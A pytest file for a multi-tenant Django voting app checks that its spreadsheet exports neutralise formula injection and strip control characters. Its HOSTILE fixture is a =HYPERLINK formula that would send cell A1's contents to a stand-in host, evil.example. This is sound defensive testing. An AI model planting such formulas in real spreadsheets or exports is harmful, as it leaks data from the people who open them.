"""Exports: text that a spreadsheet would run as a formula is written as inert text, and control
characters no longer break the workbook (findings: a citizen's `=HYPERLINK(...)` title became a
live formula; one control character made proposals.xlsx and candidates.xlsx answer 500)."""

import io

import pytest
from django_tenants.utils import tenant_context
from openpyxl import Workbook, load_workbook

from ops.spreadsheet import sheet_append
from tenants.voting.services import candidate_add, cycle_create
from tenants.voting.solicitation import cycle_advance
from tests.conftest import World, client_on
from tests.factories import make_term
from tests.tenants.voting.factories import make_proposal

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x07'


def _cells(body: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


def _inert(cells: list[object]) -> bool:
    texts = [c for c in cells if isinstance(c, str)]
    return any("HYPERLINK" in t for t in texts) and all(
        not t.startswith(("=", "+", "-", "@")) and "\x07" not in t for t in texts
    )


@pytest.fixture
def cycle_with_hostile_text(world: World) -> int:
    with tenant_context(world.town_a):
        cycle = cycle_create(
            year=2027, title="2027年民生实事", term=make_term(), actor=None, seats=1
        )
        make_proposal(
            cycle, HOSTILE, source="village", category="+公共设施", submitter_name="@李四"
        )
        cycle = cycle_advance(cycle=cycle, actor=None)
        candidate_add(cycle=cycle, name=HOSTILE, actor=None)
    return int(cycle.pk)


@pytest.mark.parametrize("export", ["proposals.xlsx", "candidates.xlsx", "results.xlsx"])
def test_voting_exports_write_hostile_text_as_inert_text(
    world: World, cycle_with_hostile_text: int, export: str
) -> None:
    staff = client_on(world.town_a, world.staff_a)

    response = staff.get(f"/api/v1/voting/cycles/{cycle_with_hostile_text}/{export}")

    assert response.status_code == 200
    cells = _cells(response.content)
    if export != "results.xlsx":  # no round closed: the results sheet has its header only
        assert _inert(cells), cells


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_the_shared_writer_neutralises_every_formula_lead(lead: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None

    sheet_append(sheet, [f"{lead}1+1", 42, "普通\x00文字"])

    out = io.BytesIO()
    book.save(out)
    text, number, plain = next(load_workbook(out).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    # (XML reads a CR back as a line feed, so the lead itself is compared loosely.)
    assert isinstance(text, str)
    assert text[0] == "'" and text[1].isspace() == lead.isspace() and text[2:] == "1+1"
    assert number == 42 and plain == "普通文字"
